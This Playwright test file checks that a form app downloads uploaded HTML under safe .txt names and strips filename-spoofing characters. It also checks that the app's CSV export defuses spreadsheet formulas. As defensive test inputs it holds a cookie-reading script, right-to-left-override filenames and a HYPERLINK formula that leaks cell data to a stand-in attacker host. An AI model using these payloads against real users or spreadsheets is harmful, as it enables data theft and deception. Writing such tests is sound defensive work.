// What leaves the app as a file, in Chromium: uploaded documents download under a safe name, CSV cells cannot run formulas.
import fs from 'node:fs';
import { expect, type Page, test } from '@playwright/test';
import { publishForm, signIn } from '../fixtures/api.ts';
import { shortConfig } from '../fixtures/configs.ts';

/** Clicks a link to `url` in the page and returns the name Chromium saves the download under, and its bytes. */
async function download(page: Page, url: string): Promise<{ name: string; body: string }> {
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    page.evaluate((href) => {
      const a = document.createElement('a');
      a.href = href;
      document.body.append(a);
      a.click();
      a.remove();
    }, url),
  ]);
  return { name: file.suggestedFilename(), body: fs.readFileSync(await file.path(), 'utf8') };
}

test('uploaded files download with the extension of their detected type and without hidden characters', async ({
  page,
  context,
}) => {
  await signIn(context, 'downloads');
  const form = await publishForm(context.request, shortConfig);
  const upload = async (name: string, content: string) => {
    const res = await context.request.post('/api/upload-document', {
      multipart: {
        formId: String(form.id),
        document: { name, mimeType: 'text/html', buffer: Buffer.from(content) },
      },
    });
    expect(res.status(), name).toBe(200);
    return ((await res.json()) as { documentUrl: string }).documentUrl;
  };
  const html = '<html><body><script>alert(document.cookie)</script></body></html>';
  const evil = await upload('evil.html', html);
  // U+202E (right-to-left override) made "invoice_‮lmth.gpj" display as "invoice_gpj.html".
  const rlo = await upload('invoice_\u202elmth.gpj', html);
  const zeroWidth = await upload('quote\u200b.pdf\u200f.html', html);
  await page.goto('/dashboard');

  const first = await download(page, evil);
  expect(first.name).toBe('evil.txt');
  expect(first.body).toBe(html);
  expect((await download(page, rlo)).name).toBe('invoice_lmth.txt');
  expect((await download(page, zeroWidth)).name).toBe('quote.pdf.txt');
});

test('the CSV export defuses formulas, also behind leading spaces, and keeps numbers numbers', async ({
  page,
  context,
}) => {
  await signIn(context, 'csv');
  const form = await publishForm(context.request, shortConfig);
  const submit = await context.request.post(`/api/forms/${form.id}/submit`, {
    data: {
      'Pick a plan': 'pro',
      'Any comments?': '  =HYPERLINK("http://evil.example/?"&A1,"Click")',
      'Your details': {
        firstName: '@SUM(1+1)*cmd',
        lastName: 'Lee',
        email: 'ann@example.com',
        consent: true,
      },
    },
  });
  expect(submit.status()).toBe(200);
  await page.goto(`/forms/${form.id}/responses`);
  await expect(page.getByText('1 response(s) received')).toBeVisible();
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('link', { name: 'Export CSV' }).click(),
  ]);
  const rows = fs
    .readFileSync(await file.path(), 'utf8')
    .trim()
    .split('\r\n');
  // The contact answer comes first, as its own columns (who the lead is, before what they answered).
  expect(rows[0]).toBe(
    'ID,Lead,Submitted At,Status,First name,Last name,Email,Phone,Pick a plan,Any comments?',
  );
  const cells = rows[1].split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/);
  expect(cells[4]).toBe(`'@SUM(1+1)*cmd`);
  expect(cells[5]).toBe('Lee');
  expect(cells[6]).toBe('ann@example.com');
  expect(cells[8]).toBe('Pro');
  expect(cells[9]).toBe(`"'  =HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
});
